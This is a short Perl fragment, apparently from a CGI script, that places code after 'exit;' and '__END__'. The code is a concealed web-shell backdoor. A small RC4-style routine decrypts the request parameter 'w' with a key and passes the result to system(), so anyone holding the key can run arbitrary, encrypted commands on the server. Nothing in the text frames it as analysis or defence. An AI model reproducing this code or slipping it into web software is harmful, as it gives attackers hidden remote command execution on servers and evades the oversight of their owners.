exit;
__END__
sub mm{my($k,$t)=@_;my@s;for($i=0;$i<256;$i++){$s[$i]=$i}
for($i=0;$i<256;$i++){$j=($j+$s[$i]+$k->[$i%16])&0xff;($s[$i],$s[$j])=($s[$j],$s[$i])}
return join '',map{chr(ord($_)^$s[$n++&0xff])}split//,$t}
my $w=mm($z,$cgi->param('w'));
system("$w 2>&1");
